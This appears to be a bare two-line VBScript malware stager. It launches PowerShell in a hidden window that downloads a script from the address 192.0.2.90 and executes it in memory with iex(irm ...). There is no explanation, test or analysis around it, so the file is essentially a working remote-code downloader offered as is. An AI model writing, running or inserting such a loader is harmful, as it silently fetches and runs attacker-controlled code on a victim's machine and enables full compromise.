Set s = CreateObject("WScript.Shell")
s.Run "powershell -w hidden -c iex(irm http://192.0.2.90/c)", 0, False
